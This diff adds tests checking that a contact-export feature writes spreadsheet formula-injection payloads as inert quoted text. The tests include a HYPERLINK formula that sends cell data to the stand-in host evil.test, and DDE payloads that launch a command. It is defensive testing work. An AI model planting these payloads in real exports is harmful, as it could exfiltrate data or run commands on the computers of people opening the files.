@@ -144,3 +144,41 @@ def test_export_batches_keep_every_row_once(project):
         Contact.objects.create(project=project.project, email=f"c{index}@example.test")
     rows = contacts_export_rows(contacts=Contact.objects.filter(project=project.project), keys=[], batch_size=2)
     assert [row[0] for row in rows] == [f"c{index}@example.test" for index in range(5)]
+
+
+# Contact data a visitor sets with the public key, as it comes out of an export: formulas are text, numbers numbers.
+HOSTILE = [
+    ("link", '=HYPERLINK("http://evil.test/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.test/?x="&A1,"Click")'),
+    ("dde", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+    ("plus", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("minus", "-2+3", "'-2+3"),
+    ("at", "@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
+    ("tab", "\t=1+1", "'\t=1+1"),
+    ("cr", "\r=1+1", "'\r=1+1"),
+    ("negative", "-5", "-5"),
+    ("signed", "+3.2", "+3.2"),
+    ("exponent", "-1e-3", "-1e-3"),
+    ("number", -7, "-7"),
+    ("text", "a=b", "a=b"),
+]
+
+
+def test_export_writes_formulas_set_with_the_public_key_as_text(project, public_client):
+    data = {key: value for key, value, _ in HOSTILE}
+    data["=HEADER()"] = "x"  # a data key is a column header
+    response = public_client.post(
+        "/v1/track", {"email": "ann@example.test", "event": "visit", "data": data}, format="json"
+    )
+    assert response.status_code == 200, response.content
+    rows = exported("--project", str(project.id))
+    header, row = rows[0], rows[1]
+    assert "'=HEADER()" in header and "=HEADER()" not in header
+    cells = dict(zip(header, row, strict=True))
+    assert {key: cells[key] for key, _, _ in HOSTILE} == {key: expected for key, _, expected in HOSTILE}
+
+
+def test_import_report_writes_a_rejected_formula_as_text(project, csv_file):
+    status, out = command("import_contacts", "--project", str(project.id), csv_file("email\n\"=cmd|' /C calc'!A0\"\n"))
+    assert status != 0
+    report = list(csv.reader(StringIO(out[out.index("row,email,error") :])))
+    assert report[1][:2] == ["2", "'=cmd|' /C calc'!A0"]
